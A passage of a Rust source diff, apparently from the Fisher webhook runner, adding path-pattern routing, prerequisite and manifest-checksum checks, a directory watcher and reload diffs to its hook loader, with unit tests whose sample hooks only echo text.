@@ -300,6 +1232,7 @@ struct HooksInner {
     hooks: Vec<Arc<Hook>>,
     by_id: HashMap<UniqueId, Arc<Hook>>,
     by_name: HashMap<String, Arc<Hook>>,
+    by_path: Vec<Arc<Hook>>,
     status_hooks: HashMap<StatusEventKind, Vec<HookProvider>>,
 }
 
@@ -310,11 +1243,33 @@ impl HooksInner {
             hooks: Vec::new(),
             by_id: HashMap::new(),
             by_name: HashMap::new(),
+            by_path: Vec::new(),
             status_hooks: HashMap::new(),
         }
     }
 
-    pub fn insert(&mut self, hook: Arc<Hook>) {
+    pub fn insert(&mut self, hook: Arc<Hook>) -> Result<()> {
+        if let Some(ref regex) = hook.path {
+            // Two hooks with the same pattern would claim the same paths,
+            // and which one is executed would depend on their names
+            let duplicate = self.by_path.iter().find(|other| {
+                other.path.as_ref().map(|r| r.as_str()) == Some(regex.as_str())
+            });
+            if let Some(other) = duplicate {
+                let mut error: Error = ErrorKind::InvalidInput(format!(
+                    "the path pattern is already used by {}", other.name(),
+                )).into();
+                error.set_location(
+                    ErrorLocation::File(hook.exec.clone(), None)
+                );
+                return Err(error);
+            }
+
+            // Hooks with a pattern are tried in alphabetical order
+            self.by_path.push(hook.clone());
+            self.by_path.sort_by(|a, b| a.name.cmp(&b.name));
+        }
+
         self.hooks.push(hook.clone());
         self.by_id.insert(hook.id(), hook.clone());
         self.by_name.insert(hook.name().to_string(), hook.clone());
@@ -332,17 +1287,49 @@ impl HooksInner {
                 }
             }
         }
+
+        Ok(())
     }
 
     pub fn get_by_name(&self, name: &str) -> Option<Arc<Hook>> {
         self.by_name.get(name).cloned()
     }
+
+    /// Check if all the hooks needed by the hook were loaded, otherwise its
+    /// jobs would be skipped forever.
+    pub fn check_prerequisites(&self, hook: &Hook) -> Result<()> {
+        if let Some(ref prerequisites) = hook.prerequisites {
+            let missing = prerequisites.scripts.iter()
+                .find(|name| !self.by_name.contains_key(name.as_str()));
+            if let Some(name) = missing {
+                let mut error: Error = ErrorKind::InvalidInput(format!(
+                    "the needed hook doesn't exist: {}", name,
+                )).into();
+                error.set_location(
+                    ErrorLocation::File(hook.exec.clone(), None)
+                );
+                return Err(error);
+            }
+        }
+        Ok(())
+    }
+
+    pub fn get_by_path(&self, path: &str)
+                       -> Option<(Arc<Hook>, HashMap<String, String>)> {
+        for hook in &self.by_path {
+            if let Some(captured) = hook.match_path(path) {
+                return Some((hook.clone(), captured));
+            }
+        }
+        None
+    }
 }
 
 
 #[derive(Debug)]
 pub struct Hooks {
     inner: Arc<RwLock<HooksInner>>,
+    state: Arc<State>,
 }
 
 impl Hooks {
@@ -354,9 +1341,23 @@ impl Hooks {
         }
     }
 
+    /// Find the first hook whose path pattern matches the path, returning
+    /// it along with the captured variables.
+    pub fn get_by_path(&self, path: &str)
+                       -> Option<(Arc<Hook>, HashMap<String, String>)> {
+        match self.inner.read() {
+            Ok(inner) => inner.get_by_path(path),
+            Err(poisoned) => poisoned.get_ref().get_by_path(path),
+        }
+    }
+
     pub fn names(&self) -> HookNamesIter {
         HookNamesIter::new(self.iter())
     }
+
+    pub fn next_job_id(&self) -> UniqueId {
+        self.state.next_id(IdKind::JobId)
+    }
 }
 
 impl ScriptsRepositoryTrait for Hooks {
@@ -387,7 +1388,59 @@ impl ScriptsRepositoryTrait for Hooks {
             StatusEvent::JobFailed(output)
         };
 
-        Some(StatusJobsIter::new(self.inner.clone(), event))
+        Some(StatusJobsIter::new(
+            self.inner.clone(), self.state.clone(), event,
+        ))
+    }
+}
+
+
+/// The public details of an hook.
+#[derive(Debug, PartialEq, Eq, Serialize)]
+pub struct HookSummary {
+    pub name: String,
+    pub providers: Vec<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub exec: Option<String>,
+}
+
+
+/// The hooks added, removed and changed by a reload.
+#[derive(Debug, Default, PartialEq, Eq, Serialize)]
+pub struct HooksDiff {
+    pub added: Vec<String>,
+    pub removed: Vec<String>,
+    pub changed: Vec<String>,
+}
+
+impl HooksDiff {
+
+    fn between(old: &HooksInner, new: &HooksInner) -> Self {
+        let mut diff = HooksDiff::default();
+
+        for (name, hook) in &new.by_name {
+            match old.by_name.get(name) {
+                Some(old_hook) => if hook.changed_from(old_hook) {
+                    diff.changed.push(name.clone());
+                },
+                None => diff.added.push(name.clone()),
+            }
+        }
+        for name in old.by_name.keys() {
+            if ! new.by_name.contains_key(name) {
+                diff.removed.push(name.clone());
+            }
+        }
+
+        diff.added.sort();
+        diff.removed.sort();
+        diff.changed.sort();
+        diff
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.added.is_empty() && self.removed.is_empty()
+            && self.changed.is_empty()
     }
 }
 
@@ -396,9 +1449,11 @@ impl ScriptsRepositoryTrait for Hooks {
 pub struct HooksBlueprint {
     added: Vec<Arc<Hook>>,
     collect_paths: Vec<(PathBuf, bool)>,
+    manifest: Option<PathBuf>,
 
     inner: Arc<RwLock<HooksInner>>,
     state: Arc<State>,
+    providers: ProviderRegistry,
 }
 
 impl HooksBlueprint {
@@ -407,12 +1462,18 @@ impl HooksBlueprint {
         HooksBlueprint {
             added: Vec::new(),
             collect_paths: Vec::new(),
+            manifest: None,
 
             inner: Arc::new(RwLock::new(HooksInner::new())),
             state: state,
+            providers: ProviderRegistry::new(),
         }
     }
 
+    pub fn providers_mut(&mut self) -> &mut ProviderRegistry {
+        &mut self.providers
+    }
+
     pub fn insert(&mut self, hook: Arc<Hook>) -> Result<()> {
         self.added.push(hook);
 
@@ -428,89 +1489,241 @@ impl HooksBlueprint {
         Ok(())
     }
 
-    pub fn reload(&mut self) -> Result<()> {
+    /// Refuse to collect the hooks which don't match their checksum in the
+    /// manifest. The manifest is read again every time hooks are reloaded.
+    pub fn verify_manifest<P: AsRef<Path>>(&mut self, path: P)
+                                           -> Result<()> {
+        self.manifest = Some(path.as_ref().to_path_buf());
+
+        self.reload()?;
+        Ok(())
+    }
+
+    pub fn reload(&mut self) -> Result<HooksDiff> {
         let mut inner = HooksInner::new();
 
+        let manifest = match self.manifest {
+            Some(ref path) => Some(Manifest::load(path)?),
+            None => None,
+        };
+
         // Add manually added hooks
         for hook in &self.added {
-            inner.insert(hook.clone());
+            inner.insert(hook.clone())?;
         }
 
         // Collect hooks from paths
         let mut collector;
         for &(ref p, recursive) in &self.collect_paths {
-            collector = HooksCollector::new(p, self.state.clone(), recursive)?;
+            collector = HooksCollector::new(
+                p, self.state.clone(), &self.providers, recursive,
+            )?;
+            if let Some(ref manifest) = manifest {
+                collector.set_manifest(manifest);
+            }
             for hook in collector {
-                inner.insert(hook?);
+                inner.insert(hook?)?;
             }
         }
 
-        {
-            let mut to_update = self.inner.write()?;
-            *to_update = inner;
+        // The needed hooks can be anywhere, so they're checked at the end
+        for hook in &inner.hooks {
+            inner.check_prerequisites(hook)?;
         }
 
-        Ok(())
+        let mut to_update = self.inner.write()?;
+        let diff = HooksDiff::between(&to_update, &inner);
+        *to_update = inner;
+
+        Ok(diff)
+    }
+
+    /// Load the hooks in a directory without adding them, reporting every
+    /// invalid hook instead of stopping at the first one.
+    pub fn check_path<P: AsRef<Path>>(&self, path: P, recursive: bool)
+                                      -> Result<Vec<Result<HookSummary>>> {
+        let manifest = match self.manifest {
+            Some(ref path) => Some(Manifest::load(path)?),
+            None => None,
+        };
+
+        let mut collector = HooksCollector::new(
+            path, self.state.clone(), &self.providers, recursive,
+        )?;
+        if let Some(ref manifest) = manifest {
+            collector.set_manifest(manifest);
+        }
+
+        // The hooks are inserted too, to catch the conflicts between them
+        let mut inner = HooksInner::new();
+        let mut loaded = Vec::new();
+        for hook in collector {
+            loaded.push(hook.and_then(|hook| {
+                inner.insert(hook.clone())?;
+                Ok(hook)
+            }));
+        }
+
+        // The needed hooks are checked only after all of them are loaded
+        Ok(loaded.into_iter().map(|hook| hook.and_then(|hook| {
+            inner.check_prerequisites(&hook)?;
+            Ok(hook.summary(true))
+        })).collect())
     }
 
     pub fn hooks(&self) -> Hooks {
         Hooks {
             inner: self.inner.clone(),
+            state: self.state.clone(),
         }
     }
 }
 
 
-pub struct HooksCollector {
+pub struct HooksCollector<'a> {
     dirs: VecDeque<ReadDir>,
     state: Arc<State>,
+    providers: &'a ProviderRegistry,
+    manifest: Option<&'a Manifest>,
     base: PathBuf,
     recursive: bool,
+    visited: HashSet<PathBuf>,
 }
 
-impl HooksCollector {
+impl<'a> HooksCollector<'a> {
 
-    pub fn new<P: AsRef<Path>>(base: P, state: Arc<State>, recursive: bool)
-                               -> Result<Self> {
+    pub fn new<P: AsRef<Path>>(base: P, state: Arc<State>,
+                               providers: &'a ProviderRegistry,
+                               recursive: bool) -> Result<Self> {
         let mut dirs = VecDeque::new();
         dirs.push_front(read_dir(&base)?);
 
+        let mut visited = HashSet::new();
+        visited.insert(canonicalize(&base)?);
+
         Ok(HooksCollector {
             dirs: dirs,
             state: state,
+            providers: providers,
+            manifest: None,
             base: base.as_ref().to_path_buf(),
             recursive: recursive,
+            visited: visited,
         })
     }
 
+    pub fn set_manifest(&mut self, manifest: &'a Manifest) {
+        self.manifest = Some(manifest);
+    }
+
     fn collect_file(&mut self, e: PathBuf) -> Result<Option<Arc<Hook>>> {
         if e.is_dir() {
-            if self.recursive {
+            // Symlinks pointing to an already visited directory are skipped,
+            // otherwise a symlink loop would never end the walk
+            if self.recursive && self.visited.insert(canonicalize(&e)?) {
                 self.dirs.push_back(read_dir(&e)?);
             }
             return Ok(None);
         }
 
-        // Check if the file is executable and readable
+        // Check if the file is readable and executable, or if it declares
+        // an interpreter which will execute it
         let mode = e.metadata()?.permissions().mode();
-        if ! ((mode & 0o111) != 0 && (mode & 0o444) != 0) {
+        if (mode & 0o444) == 0 {
+            return Ok(None);
+        }
+        if (mode & 0o111) == 0 && ! has_header(&e, &INTERPRETER_HEADER_RE) {
             // Skip files with wrong permissions
             return Ok(None);
         }
 
+        // Hooks can be disabled without deleting them, either by starting
+        // their file name with an underscore or with the
+        // `## Fisher-Disabled: true` header. They're skipped as if they
+        // didn't exist.
+        let underscore = e.file_name()
+            .and_then(|name| name.to_str())
+            .map(|name| name.starts_with('_'))
+            .unwrap_or(false);
+        // The header is matched and parsed like the other ones, and an
+        // invalid value is reported when the hook is loaded
+        let disabled = header_value(&e, &DISABLED_HEADER_RE)
+            .map(|value| serde_json::from_str(&value).unwrap_or(false))
+            .unwrap_or(false);
+        if underscore || disabled {
+            return Ok(None);
+        }
+
         // Try to remove the prefix from the path
         let name = match e.strip_prefix(&self.base) {
             Ok(stripped) => stripped,
             Err(_) => &e,
         }.to_str().unwrap().to_string();
 
-        let exec = canonicalize(&e)?.to_str().unwrap().into();
+        let exec = canonicalize(&e)?;
+        if let Some(manifest) = self.manifest {
+            manifest.verify(&exec)?;
+
+            // The sidecar can add providers to the hook, so it needs to be
+            // trusted as much as the hook itself
+            if let Some(sidecar) = sidecar_path(&exec) {
+                manifest.verify(&sidecar)?;
+            }
+        }
+        let exec = exec.to_str().unwrap().into();
+
+        Ok(Some(Arc::new(
+            Hook::load(name, exec, &self.state, self.providers)?
+        )))
+    }
+}
+
+/// Return the path of the sidecar of the hook, if it has one.
+fn sidecar_path(file: &Path) -> Option<PathBuf> {
+    let path = file.with_extension("toml");
+    if path != file && path.is_file() {
+        Some(path)
+    } else {
+        None
+    }
+}
+
+
+fn has_header(path: &Path, header: &Regex) -> bool {
+    find_header(path, header).is_some()
+}
+
 
-        Ok(Some(Arc::new(Hook::load(name, exec, &self.state)?)))
+/// Return the value captured by the header, if the file has it.
+fn header_value(path: &Path, header: &Regex) -> Option<String> {
+    find_header(path, header).and_then(|content| {
+        header.captures(&content).map(|cap| cap[1].to_string())
+    })
+}
+
+
+fn find_header(path: &Path, header: &Regex) -> Option<String> {
+    let file = match File::open(path) {
+        Ok(file) => file,
+        Err(..) => return None,
+    };
+
+    // This doesn't fail on files which aren't text, since they're not hooks
+    for line in BufReader::new(file).lines() {
+        match line {
+            Ok(ref content) if content == "" => break,
+            Ok(content) => if header.is_match(&content) {
+                return Some(content);
+            },
+            Err(..) => break,
+        }
     }
+
+    None
 }
 
-impl Iterator for HooksCollector {
+
+impl<'a> Iterator for HooksCollector<'a> {
     type Item = Result<Arc<Hook>>;
 
     fn next(&mut self) -> Option<Self::Item> {
@@ -525,14 +1738,21 @@ impl Iterator for HooksCollector {
             match entry {
                 // Found an entry
                 Some(Ok(entry)) => {
-                    match self.collect_file(entry.path()) {
+                    let path = entry.path();
+                    match self.collect_file(path.clone()) {
                         Ok(result) => {
                             if let Some(hook) = result {
                                 return Some(Ok(hook));
                             }
                             // If None is returned get another one
                         },
-                        Err(err) => {
+                        Err(mut err) => {
+                            // Show which file couldn't be loaded
+                            if *err.location() == ErrorLocation::Unknown {
+                                err.set_location(ErrorLocation::File(
+                                    path.to_string_lossy().into_owned(), None,
+                                ));
+                            }
                             return Some(Err(err));
                         },
                     }
@@ -552,22 +1772,162 @@ impl Iterator for HooksCollector {
 }
 
 
+fn watch_paths(paths: &[(PathBuf, bool)]) -> Result<native::Inotify> {
+    let inotify = native::Inotify::new()?;
+
+    let mut visited = HashSet::new();
+    let mut to_watch = paths.iter().cloned().collect::<VecDeque<_>>();
+    while let Some((path, recursive)) = to_watch.pop_front() {
+        if ! visited.insert(canonicalize(&path)?) {
+            continue;
+        }
+        inotify.watch(&path)?;
+
+        // Inotify doesn't watch the subdirectories on its own
+        if recursive && path.is_dir() {
+            for entry in read_dir(&path)? {
+                let entry = entry?.path();
+                if entry.is_dir() {
+                    to_watch.push_back((entry, true));
+                }
+            }
+        }
+    }
+
+    Ok(inotify)
+}
+
+
+/// This struct watches the paths the hooks are collected from, and tells
+/// when something changed in them. Changes happening in a quick succession
+/// are reported only once, after none happened for the debounce time.
+#[derive(Debug)]
+pub struct HooksWatcher {
+    changes: mpsc::Receiver<()>,
+    should_stop: Arc<AtomicBool>,
+}
+
+impl HooksWatcher {
+
+    pub fn new(blueprint: &HooksBlueprint, debounce: Duration)
+               -> Result<Self> {
+        let paths = blueprint.collect_paths.clone();
+        let mut inotify = watch_paths(&paths)?;
+
+        let (changes_send, changes_recv) = mpsc::channel();
+        let should_stop = Arc::new(AtomicBool::new(false));
+
+        let stop = should_stop.clone();
+        thread::spawn(move || {
+            let mut changed_at = None;
+            let mut rewatch = false;
+            let mut failing = false;
+            while ! stop.load(Ordering::SeqCst) {
+                // The errors are shown only once, until watching works
+                // again, and they never stop the watcher
+                match inotify.changed() {
+                    Ok(changed) => {
+                        if changed {
+                            changed_at = Some(Instant::now());
+                        }
+                        failing = false;
+                    },
+                    // Start watching from scratch instead of giving up
+                    Err(error) => {
+                        if ! failing {
+                            Error::from(error).pretty_print();
+                        }
+                        failing = true;
+                        rewatch = true;
+                    },
+                }
+
+                if changed_at.map(|at| at.elapsed() >= debounce)
+                             .unwrap_or(false) {
+                    changed_at = None;
+                    if changes_send.send(()).is_err() {
+                        break;
+                    }
+
+                    // Watch again the paths, since new directories could
+                    // have been created
+                    rewatch = true;
+                }
+
+                if rewatch {
+                    match watch_paths(&paths) {
+                        Ok(new) => {
+                            inotify = new;
+                            rewatch = false;
+                        },
+                        Err(error) => {
+                            if ! failing {
+                                error.pretty_print();
+                            }
+                            failing = true;
+                        },
+                    }
+                }
+
+                // Watching the paths again is retried less often
+                thread::sleep(Duration::from_millis(
+                    if rewatch { 1000 } else { 50 }
+                ));
+            }
+        });
+
+        Ok(HooksWatcher {
+            changes: changes_recv,
+            should_stop: should_stop,
+        })
+    }
+
+    /// Check if the hooks changed since the last call.
+    pub fn changed(&self) -> bool {
+        let mut changed = false;
+        while self.changes.try_recv().is_ok() {
+            changed = true;
+        }
+        changed
+    }
+}
+
+impl Drop for HooksWatcher {
+
+    fn drop(&mut self) {
+        self.should_stop.store(true, Ordering::SeqCst);
+    }
+}
+
+
 #[cfg(test)]
 mod tests {
+    use std::collections::HashMap;
     use std::os::unix::fs::OpenOptionsExt;
     use std::io::Write;
     use std::fs;
     use std::sync::Arc;
+    use std::thread;
+    use std::time::{Duration, Instant};
 
     use fisher_common::state::State;
+    use fisher_common::structs::{ConcurrencyLimit, Prerequisites};
+    use libc;
 
     use utils::testing::*;
     use utils;
     use fisher_common::prelude::*;
-    use providers::StatusEventKind;
+    use providers::{ProviderRegistry, ProviderTrait, ProviderErrorPolicy};
+    use providers::{Provider, StatusEventKind};
     use requests::{Request, RequestType};
+    use jobs::{Context, Job, KillPolicy};
+    use cgroups::Limits;
 
-    use super::{Hook, HooksCollector, HooksBlueprint};
+    use serde_json;
+
+    use super::{Hook, HooksCollector, HooksBlueprint, HooksDiff, Preferences};
+    use super::RateLimit;
+    use super::HooksWatcher;
 
 
     macro_rules! assert_hook {
@@ -579,6 +1939,7 @@ mod tests {
 
             let hook = Hook::load(
                 $name.to_string(), path_str.clone(), $state,
+                &ProviderRegistry::new(),
             ).unwrap();
 
             assert_eq!(hook.name, $name.to_string());
@@ -591,6 +1952,28 @@ mod tests {
         }};
     }
 
+    // Create a hook with the headers, and check it's rejected with an error
+    // pointing to its file
+    macro_rules! assert_invalid_hook {
+        ($base:expr, $name:expr, $( $header:expr ),*) => {{
+            create_hook!($base, $name,
+                r#"#!/bin/bash"#,
+                $( $header, )*
+                r#"echo "Hello world""#
+            );
+            let path = $base.join($name).to_str().unwrap().to_string();
+
+            let error = Hook::load(
+                $name.to_string(), path.clone(), &Arc::new(State::new()),
+                &ProviderRegistry::new(),
+            ).err().expect(concat!($name, " was loaded"));
+            match *error.location() {
+                ErrorLocation::File(ref file, _) => assert_eq!(file, &path),
+                ref other => panic!("unexpected location: {:?}", other),
+            }
+        }};
+    }
+
 
     #[test]
     fn test_hook_loading() {
@@ -613,8 +1996,49 @@ mod tests {
         );
         let hook = assert_hook!(base, "preferences.sh");
         assert_eq!(hook.priority, 5);
+        assert_eq!(hook.max_parallel, None);
         assert!(hook.providers.is_empty());
 
+        // Try to load hooks with a concurrency limit
+        create_hook!(base, "max-parallel.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher: {"max_parallel": 2}"#,
+            r#"echo "Hello world"#
+        );
+        let hook = assert_hook!(base, "max-parallel.sh");
+        assert_eq!(hook.max_parallel, Some(ConcurrencyLimit::Threads(2)));
+
+        create_hook!(base, "max-parallel-percentage.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher: {"max_parallel": "50%"}"#,
+            r#"echo "Hello world"#
+        );
+        let hook = assert_hook!(base, "max-parallel-percentage.sh");
+        assert_eq!(hook.max_parallel, Some(ConcurrencyLimit::Fraction(0.5)));
+
+        // Invalid concurrency limits should be rejected
+        for wrong in &[
+            r#"{"max_parallel": 0}"#,
+            r#"{"max_parallel": "50"}"#,
+            r#"{"max_parallel": "abc%"}"#,
+            r#"{"max_parallel": "0%"}"#,
+            r#"{"max_parallel": "150%"}"#,
+        ] {
+            let preferences: Preferences = serde_json::from_str(wrong).unwrap();
+            assert!(preferences.max_parallel().is_err(), wrong.to_string());
+        }
+        for wrong in &[r#"{"max_parallel": -1}"#, r#"{"max_parallel": []}"#] {
+            assert!(
+                serde_json::from_str::<Preferences>(wrong).is_err(),
+                wrong.to_string()
+            );
+        }
+
+        // The hooks which could never run are rejected when loaded
+        assert_invalid_hook!(base, "no-parallel.sh",
+            r#"## Fisher: {"max_parallel": 0}"#
+        );
+
         // Try to load an hook with a provider
         create_hook!(base, "one-provider.sh",
             r#"#!/bin/bash"#,
@@ -670,7 +2094,8 @@ mod tests {
                 path.push($file);
 
                 Hook::load_headers(
-                    &path.to_str().unwrap().to_string()
+                    &path.to_str().unwrap().to_string(),
+                    &ProviderRegistry::new(),
                 ).map(|res| res.providers)
             }};
         };
@@ -735,142 +2160,1018 @@ mod tests {
             r#"# hey!"#,
             r#"echo "hi";"#
         );
-        let providers = load_providers!(base, "two-providers.sh").unwrap();
-        assert_provider!(providers, 0, "Testing");
-        assert_provider!(providers, 1, "Standalone");
+        let providers = load_providers!(base, "two-providers.sh").unwrap();
+        assert_provider!(providers, 0, "Testing");
+        assert_provider!(providers, 1, "Standalone");
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_status_hooks_collection() {
+        let base = utils::create_temp_dir().unwrap();
+
+        // Create a standard hook
+        create_hook!(base, "test.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: something"#,
+            r#"echo "hi";"#
+        );
+
+        // Create two different status hooks
+        create_hook!(base, "status1.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Status: {"events": ["job_completed", "job_failed"]}"#,
+            r#"echo "hi";"#
+        );
+        create_hook!(base, "status2.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Status: {"events": ["job_failed"]}"#,
+            r#"echo "hi";"#
+        );
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.collect_path(&base, false).unwrap();
+
+        let hooks = blueprint.hooks();
+
+        assert_eq!(
+            hooks.inner.read().unwrap().status_hooks
+                 .get(&StatusEventKind::JobCompleted).unwrap().iter()
+                 .map(|hp| hp.hook.name().to_string())
+                 .collect::<Vec<String>>(),
+            vec!["status1.sh".to_string()]
+        );
+        assert_eq!(
+            {
+                let mut status = hooks.inner.read().unwrap().status_hooks
+                                      .get(&StatusEventKind::JobFailed)
+                                      .unwrap().iter()
+                                      .map(|hp| hp.hook.name().to_string())
+                                      .collect::<Vec<String>>();
+                status.sort();
+                status
+            },
+            vec!["status1.sh".to_string(), "status2.sh".to_string()]
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_status_hooks_disabled() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "test.sh",
+            r#"#!/bin/bash"#,
+            r#"echo "hi";"#
+        );
+        create_hook!(base, "status.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Status: {"events": ["job_completed"]}"#,
+            r#"echo "hi";"#
+        );
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.collect_path(&base, false).unwrap();
+        let hooks = blueprint.hooks();
+
+        let job = Job::new(
+            hooks.next_job_id(), hooks.get_by_name("test.sh").unwrap(), None,
+            dummy_web_request().into(),
+        );
+        let status_jobs = |ctx: &Context| {
+            let output = job.execute(ctx).unwrap();
+            hooks.jobs_after_output(output).map(|jobs| jobs.count())
+        };
+
+        // By default the status hooks are triggered
+        assert_eq!(status_jobs(&Context::default()), Some(1));
+
+        // Nothing is dispatched if they're disabled
+        assert_eq!(status_jobs(&Context {
+            status_hooks: false,
+            .. Context::default()
+        }), None);
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_status_hooks_filtering() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "all.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Status: {"events": ["job_failed"]}"#,
+            r#"echo "hi";"#
+        );
+        create_hook!(base, "codes.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Status: {"events":["job_failed"],"exit_codes":"2"}"#,
+            r#"echo "hi";"#
+        );
+        create_hook!(base, "other.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Status: {"events":["job_failed"],"hooks":["other"]}"#,
+            r#"echo "hi";"#
+        );
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.collect_path(&base, false).unwrap();
+        let hooks = blueprint.hooks();
+
+        let status_jobs = |code| {
+            let mut output = dummy_job_output();
+            output.success = false;
+            output.exit_code = Some(code);
+
+            let mut names = hooks.jobs_after_output(output).unwrap()
+                .map(|job| job.script_name().to_string())
+                .collect::<Vec<_>>();
+            names.sort();
+            names
+        };
+
+        // Only the hooks interested in the job are executed
+        assert_eq!(status_jobs(1), vec!["all.sh".to_string()]);
+        assert_eq!(status_jobs(2), vec![
+            "all.sh".to_string(), "codes.sh".to_string(),
+        ]);
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_blueprint() {
+        let base = utils::create_temp_dir().unwrap();
+        let other = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "a.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: something"#,
+            r#"echo "a";"#
+        );
+
+        create_hook!(base, "b.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: something"#,
+            r#"echo "b";"#
+        );
+
+        create_hook!(other, "c.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: something"#,
+            r#"echo "c";"#
+        );
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.insert(assert_hook!(other, "c.sh")).unwrap();
+        blueprint.collect_path(&base, false).unwrap();
+
+        let hooks = blueprint.hooks();
+
+        // Check if all the hooks were loaded
+        let mut names = hooks.names().collect::<Vec<_>>();
+        names.sort();
+        assert_eq!(names, vec![
+            "a.sh".to_string(),
+            "b.sh".to_string(),
+            "c.sh".to_string(),
+        ]);
+
+        // Update the hooks in the directory
+        fs::remove_file(&base.join("b.sh")).unwrap();
+        create_hook!(base, "d.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: something"#,
+            r#"echo "d";"#
+        );
+
+        // Do a reload of the hooks
+        blueprint.reload().unwrap();
+
+        // Check if changes were applied
+        let mut names = hooks.names().collect::<Vec<_>>();
+        names.sort();
+        assert_eq!(names, vec![
+            "a.sh".to_string(),
+            "c.sh".to_string(),
+            "d.sh".to_string(),
+        ]);
+
+        // Reloading without changes doesn't report anything
+        assert!(blueprint.reload().unwrap().is_empty());
+
+        // Do an invalid reload
+        fs::remove_dir_all(&base).unwrap();
+        assert!(blueprint.reload().is_err());
+
+        // Ensure no changes were applied
+        let mut names = hooks.names().collect::<Vec<_>>();
+        names.sort();
+        assert_eq!(names, vec![
+            "a.sh".to_string(),
+            "c.sh".to_string(),
+            "d.sh".to_string(),
+        ]);
+
+        fs::remove_dir_all(&other).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_blueprint_diff() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "removed.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "removed";"#
+        );
+        create_hook!(base, "changed.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "changed";"#
+        );
+        create_hook!(base, "unchanged.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "unchanged";"#
+        );
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.collect_path(&base, false).unwrap();
+
+        fs::remove_file(&base.join("removed.sh")).unwrap();
+        create_hook!(base, "changed.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher: {"priority": 10}"#,
+            r#"echo "changed";"#
+        );
+        create_hook!(base, "added.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "added";"#
+        );
+
+        assert_eq!(blueprint.reload().unwrap(), HooksDiff {
+            added: vec!["added.sh".into()],
+            removed: vec!["removed.sh".into()],
+            changed: vec!["changed.sh".into()],
+        });
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_blueprint_prerequisites() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "deploy.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Needs: {"hooks": ["build.sh"]}"#,
+            r#"echo "deploy";"#
+        );
+
+        // The needed hook doesn't exist yet
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        assert!(blueprint.collect_path(&base, false).is_err());
+
+        create_hook!(base, "build.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "build";"#
+        );
+        blueprint.reload().unwrap();
+        let hooks = blueprint.hooks();
+        assert_eq!(hooks.names().count(), 2);
+
+        // Removing the needed hook is refused, keeping the old hooks
+        fs::remove_file(&base.join("build.sh")).unwrap();
+        let error = blueprint.reload().err().unwrap();
+        match *error.location() {
+            ErrorLocation::File(ref file, _) => {
+                assert!(file.ends_with("deploy.sh"));
+            },
+            ref other => panic!("unexpected location: {:?}", other),
+        }
+        assert!(hooks.get_by_name("build.sh").is_some());
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_blueprint_check() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "valid.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: something"#,
+            r#"echo "valid";"#
+        );
+        create_hook!(base, "invalid.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: FAIL"#,
+            r#"echo "invalid";"#
+        );
+
+        // Two hooks claiming the same path conflict with each other
+        for name in &["first.sh", "second.sh"] {
+            create_hook!(base, name,
+                r#"#!/bin/bash"#,
+                r#"## Fisher-Path: {"pattern": "^repo/(?P<NAME>.+)$"}"#,
+                r#"echo "conflict";"#
+            );
+        }
+
+        // The hooks needed by a hook must exist
+        create_hook!(base, "needs.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Needs: {"hooks": ["valid.sh", "missing.sh"]}"#,
+            r#"echo "needs";"#
+        );
+
+        let blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        let result = blueprint.check_path(&base, false).unwrap();
+        assert_eq!(result.len(), 5);
+
+        let mut valid = result.iter()
+            .filter_map(|hook| hook.as_ref().ok())
+            .map(|hook| hook.name.as_str())
+            .collect::<Vec<_>>();
+        valid.sort();
+        assert!(valid == vec!["first.sh", "valid.sh"]
+             || valid == vec!["second.sh", "valid.sh"]);
+
